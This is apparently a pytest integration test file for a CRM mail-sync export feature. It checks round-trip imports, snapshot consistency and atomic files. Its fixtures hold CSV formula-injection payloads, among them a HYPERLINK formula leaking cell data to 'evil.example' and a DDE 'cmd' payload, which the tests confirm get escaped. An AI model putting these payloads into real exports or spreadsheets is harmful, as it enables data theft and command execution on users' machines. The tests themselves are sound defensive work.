"""`mailsync export` on the demo after capture and decisions, on SQLite and PostgreSQL: importing the
export back changes nothing, mail-derived cells cannot run in a spreadsheet, files are whole or absent."""

from __future__ import annotations

import csv
import io
import itertools
import json
from datetime import UTC, datetime
from email.headerregistry import Address
from email.message import EmailMessage

import pytest
from sqlalchemy import select
from structlog.testing import capture_logs

from config.settings import load_settings
from mailsync.admin import export_rows
from mailsync.admin.crm_import import import_crm
from mailsync.admin.csv_records import neutralise, restore
from mailsync.admin.export import GROUPS, export
from mailsync.approval.decisions import DecisionRequest, decide
from mailsync.mail.sources.files import FileSource
from mailsync.pipeline.importer import import_source
from mailsync.pipeline.ingest import Pipeline
from storage import models as m
from storage.archive import Archive
from storage.eventlog import EventLog
from storage.repo import Repo
from tests.conftest import DEMO, write_config

pytestmark = pytest.mark.integration

DANA = "dana@northwind.example"
NOW = datetime(2026, 4, 21, 8, 0, tzinfo=UTC)
FORMULA = ("=", "+", "-", "@", "\t", "\r")
# What a hostile correspondent controls: display name, subject, attachment name, body.
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_SUBJECTS = ["=1+2", "+SUM(1,1)", "-2+3", "@SUM(1)", "\t=cmd|' /C calc'!A0", "'=already quoted"]
DECISIONS = {  # proposals of the demo (plus the hostile sender's) and what the rep decides
    "new_contact:nadia.petrova@acme.example": "approve",
    "new_opportunity:20260122202002.D0F631@mail.granitepeak.example": "approve",
    "stage:20260114151233.F55FF1@mail.acme.example:1": "approve",
    "link:a40a7e57-4c4d-51b7-9e3e-a7b972231f5c@northwind.example": "approve",
    "link:8839d356-f787-5a0b-8010-d454645c55f8@northwind.example": "reject",
    "new_contact:mallory@pinecrest.example": "approve",
}


def hostile_mail(directory):
    """Mail from an unknown person at a CRM account (so a new contact is proposed) whose name, subjects
    and attachment name are formulas."""
    directory.mkdir()
    for n, subject in enumerate(HOSTILE_SUBJECTS):
        mail = EmailMessage()
        mail["From"] = Address(HOSTILE_NAME, addr_spec="mallory@pinecrest.example")
        mail["To"] = DANA
        mail["Subject"] = subject
        mail["Date"] = f"Mon, 0{n + 1} Mar 2026 10:00:00 +0000"
        mail["Message-ID"] = f"<hostile-{n}@pinecrest.example>"
        mail.set_content("Hi Dana, we would like to talk about the RouteIQ rollout next week.")
        mail.add_attachment(b"x", maintype="text", subtype="plain", filename="@SUM(A1).txt")
        (directory / f"{n}.eml").write_bytes(mail.as_bytes())
    return directory


@pytest.fixture(params=["sqlite", "postgresql"])
def store(request, tmp_path, monkeypatch, parse_worker):
    """The demo CRM and mail (plus the hostile mail), some proposals decided; on SQLite or PostgreSQL."""
    if request.param == "postgresql":
        monkeypatch.setenv("MAILSYNC_DATABASE_URL", request.getfixturevalue("pg_fresh_url"))
    (tmp_path / "data").mkdir()
    settings = load_settings(write_config(tmp_path / "data"))
    repo = Repo(settings.database_url)
    repo.upgrade()
    pipeline = Pipeline(settings, repo, Archive(settings.archive_dir), parse_worker)
    import_crm(settings, repo, [DEMO / "crm"], {})
    pipeline.refresh_crm()
    import_source(pipeline, FileSource(DEMO / "Maildir", "dana"), DANA)
    import_source(pipeline, FileSource(hostile_mail(tmp_path / "hostile"), "dana"), DANA)
    events = EventLog(settings.events_dir)
    for key, verdict in DECISIONS.items():
        decide(repo, events, DecisionRequest(key, verdict, DANA, "cli"), NOW, stages=settings.stage_for)
    yield settings, repo
    repo.dispose()


def run_export(settings, repo, out, **options):
    options = {"formats": ("csv", "jsonl"), "only": GROUPS, "stage_for": settings.stage_for} | options
    return export(repo, out, **options)


def tables(repo):
    """Every row of every table, as comparable values."""
    with repo.session() as session:
        return {
            table.name: sorted(
                (tuple(map(repr, row)) for row in session.execute(select(table))),
                key="\x00".join,
            )
            for table in m.Base.metadata.sorted_tables
        }


def read_csv(path):
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read_jsonl(path):
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_importing_an_export_back_changes_no_row_and_logs_no_event(store, tmp_path):
    settings, repo = store
    report = run_export(settings, repo, tmp_path / "export")
    by_name = {(f.table, f.format): f.rows for f in report.files}
    assert by_name[("contacts", "csv")] == 13  # the CRM's
    assert by_name[("new_contacts", "csv")] == 2  # Nadia and the hostile sender, approved from mail
    assert by_name[("new_opportunities", "csv")] == by_name[("new_accounts", "csv")] == 1  # Granite Peak
    before, events = tables(repo), len(list(EventLog(settings.events_dir)))

    again = import_crm(settings, repo, [tmp_path / "export"], {})

    assert again.files.errors == []
    assert again.files.read == {"reps": 3, "accounts": 7, "contacts": 13, "opportunities": 9}
    assert again.unchanged
    assert all(set(counts) == {"unchanged"} for counts in again.counts.values()), again.counts
    assert len(list(EventLog(settings.events_dir))) == events
    assert tables(repo) == before


def test_decisions_show_in_the_crm_files_and_in_proposals_and_decisions(store, tmp_path):
    settings, repo = store
    run_export(settings, repo, tmp_path / "export")
    opportunities = {row["id"]: row for row in read_csv(tmp_path / "export" / "opportunities.csv")}
    assert opportunities["OPP-001"]["stage"] == "closed_won"  # the approved stage change
    assert opportunities["OPP-003"]["stage"] == "Negotiation/Review"  # as the CRM wrote it
    assert opportunities["OPP-003"]["created_at"] == "2025-12-02"
    (granite,) = read_csv(tmp_path / "export" / "new_opportunities.csv")
    (account,) = read_csv(tmp_path / "export" / "new_accounts.csv")
    assert granite["account_id"] == account["id"]
    assert account["id"].startswith("mailsync:account:")
    assert (account["domain"], granite["amount"], granite["currency"]) == (
        "granitepeak.example",
        "41650.00",
        "USD",
    )
    proposals = {row["key"]: row for row in read_jsonl(tmp_path / "export" / "proposals.jsonl")}
    for key, verdict in DECISIONS.items():
        assert proposals[key]["status"] == {"approve": "approved", "reject": "rejected"}[verdict]
        assert (proposals[key]["decided_by"], proposals[key]["decided_at"]) == (DANA, NOW.isoformat())
    decisions = read_jsonl(tmp_path / "export" / "decisions.jsonl")
    assert [(d["proposal"], d["verdict"]) for d in decisions] == list(DECISIONS.items())
    assert all(d["event_id"] for d in decisions)


def test_activities_say_who_saw_each_message_where(store, tmp_path):
    settings, repo = store
    run_export(settings, repo, tmp_path / "export", only=("activities",))
    rows = read_jsonl(tmp_path / "export" / "activities.jsonl")
    with repo.session() as session:
        parsed = session.scalar(select(m.Message.id).where(m.Message.status == "parsed").limit(1))
        assert len(rows) == len(
            list(session.scalars(select(m.Message.id).where(m.Message.status == "parsed")))
        )
    assert parsed is not None
    sent = [r for r in rows if r["provenance"][0]["folder"] == "Sent"]
    assert sent
    assert all(r["seen_by"] == [DANA] and r["provenance"][0]["mailbox"] == "dana" for r in rows)
    threads = [r["thread_id"] for r in rows]
    assert threads == sorted(threads)  # grouped by thread, each in date order
    for thread in set(threads):
        dates = [r["sent_at"] for r in rows if r["thread_id"] == thread]
        assert dates == sorted(dates)
    linked = [r for r in rows if r["opportunity_id"] == "OPP-002"]  # the approved Harbor link
    assert linked
    assert "CON-001" in next(r["contact_ids"] for r in rows if r["from"] == "rachel.kim@acme.example")


def test_mail_derived_cells_cannot_run_as_formulas_and_jsonl_keeps_them_raw(store, tmp_path):
    settings, repo = store
    run_export(settings, repo, tmp_path / "export")
    checked = 0
    for path in sorted((tmp_path / "export").glob("*.csv")):
        raw = read_jsonl(path.with_suffix(".jsonl"))
        for row, original in zip(read_csv(path), raw, strict=True):
            for column, cell in row.items():
                assert not cell.startswith(FORMULA), (path.name, column, cell)
                value = original[column]
                if isinstance(value, str):
                    assert restore(cell) == value, (path.name, column)
                    checked += cell != value
    assert checked >= len(HOSTILE_SUBJECTS) * 3  # subjects in activities, proposals and the thread column
    (mallory,) = [r for r in read_csv(tmp_path / "export" / "new_contacts.csv") if "mallory" in r["email"]]
    assert mallory["name"] == "'" + HOSTILE_NAME
    subjects = {r["subject"] for r in read_jsonl(tmp_path / "export" / "activities.jsonl")}
    assert set(HOSTILE_SUBJECTS) - {"\t=cmd|' /C calc'!A0"} <= subjects  # raw, as the mail had them
    cells = {r["subject"] for r in read_csv(tmp_path / "export" / "activities.csv")}
    assert {"'=1+2", "'+SUM(1,1)", "'-2+3", "'@SUM(1)", "''=already quoted"} <= cells


def test_neutralise_is_undone_by_restore_and_leaves_nothing_a_spreadsheet_runs():
    alphabet = "'=+-@ \t\r\na\uff1d"
    for cell in map("".join, itertools.product(alphabet, repeat=4)):
        safe = neutralise(cell)
        assert restore(safe) == cell
        assert not safe.startswith((*FORMULA, "\n")), repr(cell)
        assert not safe.lstrip().startswith(("=", "+", "-", "@", "\uff1d")), repr(cell)
        assert safe == cell or safe == "'" + cell
    assert restore("'+49 30 1234") == "+49 30 1234"  # as another CRM's export escapes a phone number
    assert restore("'Quoted") == "'Quoted"


def test_a_crm_value_that_looks_like_a_formula_survives_the_round_trip(tmp_path, repo, settings):
    crm = tmp_path / "crm"
    crm.mkdir()
    (crm / "accounts.csv").write_text("id,name,domain\nA1,=Acme+1,acme.example\nA2,'Quoted,b.example\n")
    (crm / "contacts.csv").write_text("id,account_id,name,email,owner_rep\nC1,A1,-Bob,+bob@acme.example,\n")
    import_crm(settings, repo, [crm], {})
    run_export(settings, repo, tmp_path / "export", formats=("csv",))
    accounts = (tmp_path / "export" / "accounts.csv").read_text(encoding="utf-8-sig")
    assert "A1,'=Acme+1,acme.example" in accounts
    assert "A2,'Quoted,b.example" in accounts  # an apostrophe before text is left alone
    assert "C1,A1,'-Bob,'+bob@acme.example," in (tmp_path / "export" / "contacts.csv").read_text(
        encoding="utf-8-sig"
    )
    before = tables(repo)
    assert import_crm(settings, repo, [tmp_path / "export"], {}).unchanged
    assert tables(repo) == before
    with repo.session() as session:
        assert session.scalar(select(m.Account.name).where(m.Account.external_id == "A1")) == "=Acme+1"


def test_a_contact_whose_addresses_moved_away_is_left_out_with_a_warning(tmp_path, repo, settings):
    crm = tmp_path / "crm"
    crm.mkdir()
    (crm / "contacts.csv").write_text("id,account_id,name,email,owner_rep\nC1,,Ann,ann@a.example,\n")
    import_crm(settings, repo, [crm], {})
    (crm / "contacts.csv").write_text("id,account_id,name,email,owner_rep\nC2,,Ann B,ann@a.example,\n")
    import_crm(settings, repo, [crm], {})  # the address is C2's now; C1 has none
    with capture_logs() as logs:
        report = run_export(settings, repo, tmp_path / "export", only=("contacts",))
    assert [f.rows for f in report.files if f.table == "contacts"] == [1, 1]
    assert {"event": "export_contact_without_address", "contact": "C1", "log_level": "warning"} in logs
    before = tables(repo)
    again = import_crm(settings, repo, [tmp_path / "export"], {})
    assert (again.files.errors, again.unchanged) == ([], True)
    assert tables(repo) == before


def test_exporting_twice_writes_the_same_bytes(tmp_path, repo, settings):
    import_crm(settings, repo, [DEMO / "crm"], {})
    first = run_export(settings, repo, tmp_path / "export")
    snapshot = {f.path.name: f.path.read_bytes() for f in first.files}
    second = run_export(settings, repo, tmp_path / "export")
    assert {f.path.name: f.path.read_bytes() for f in second.files} == snapshot
    assert sorted(p.name for p in (tmp_path / "export").iterdir()) == sorted(snapshot)


@pytest.mark.parametrize("database", ["sqlite", "postgresql"])
def test_a_write_during_the_export_is_in_no_file(database, tmp_path, monkeypatch, request):
    """The daemon commits a contact while the export is between two tables (a writer made to strike
    then, on a second connection): every file shows the database as it was when the export began."""
    if database == "postgresql":
        monkeypatch.setenv("MAILSYNC_DATABASE_URL", request.getfixturevalue("pg_fresh_url"))
    (tmp_path / "data").mkdir()
    settings = load_settings(write_config(tmp_path / "data"))
    repo = Repo(settings.database_url)
    repo.upgrade()
    import_crm(settings, repo, [DEMO / "crm"], {})
    real = export_rows.contacts

    def after_a_concurrent_commit(session, refs, *, known):
        if known:
            writer = Repo(settings.database_url)
            with writer.session() as other:
                account = other.scalars(select(m.Account).where(m.Account.external_id == "ACC-001")).one()
                address = m.ContactAddress(email="late@acme.example")
                other.add(
                    m.Contact(external_id="LATE", name="Late", account_id=account.id, addresses=[address])
                )
            writer.dispose()
        yield from real(session, refs, known=known)

    monkeypatch.setattr(export_rows, "contacts", after_a_concurrent_commit)
    report = run_export(settings, repo, tmp_path / "export", only=("accounts", "contacts"))
    assert {f.table: f.rows for f in report.files if f.format == "csv"}["contacts"] == 13
    assert "LATE" not in (tmp_path / "export" / "contacts.csv").read_text(encoding="utf-8-sig")
    repo.dispose()


class Interrupted(BaseException):
    """A fault no real database produces on cue: Ctrl-C arriving while a table is half written."""


def test_an_interrupted_export_leaves_the_previous_file_whole_and_no_partial_one(
    tmp_path, repo, settings, monkeypatch
):
    import_crm(settings, repo, [DEMO / "crm"], {})
    out = tmp_path / "export"
    run_export(settings, repo, out, only=("contacts",))
    previous = (out / "contacts.csv").read_bytes()
    real = export_rows.contacts

    def interrupted(*args, **kwargs):
        for n, row in enumerate(real(*args, **kwargs)):
            if n == 5:
                raise Interrupted
            yield row | {"name": "changed"}

    monkeypatch.setattr(export_rows, "contacts", interrupted)
    (out / ".contacts.csv.x.partial").write_text("left by a killed export")
    with pytest.raises(Interrupted):
        run_export(settings, repo, out, only=("contacts",))
    assert (out / "contacts.csv").read_bytes() == previous
    assert sorted(p.name for p in out.iterdir()) == [
        "contacts.csv",
        "contacts.jsonl",
        "new_contacts.csv",
        "new_contacts.jsonl",
    ]


def test_only_and_format_choose_the_files(tmp_path, repo, settings):
    import_crm(settings, repo, [DEMO / "crm"], {})
    report = run_export(settings, repo, tmp_path / "export", formats=("jsonl",), only=("reps", "decisions"))
    assert sorted(p.name for p in (tmp_path / "export").iterdir()) == ["decisions.jsonl", "reps.jsonl"]
    assert [(f.table, f.rows) for f in report.files] == [("reps", 3), ("decisions", 0)]
    (mia,) = [r for r in read_jsonl(tmp_path / "export" / "reps.jsonl") if r["email"].startswith("mia")]
    assert mia == {"email": "mia@northwind.example", "name": "Mia Laurent", "team": "Management", "lead": None,
                   "active": True, "timezone": None, "digest_at": None, "locale": None}  # fmt: skip
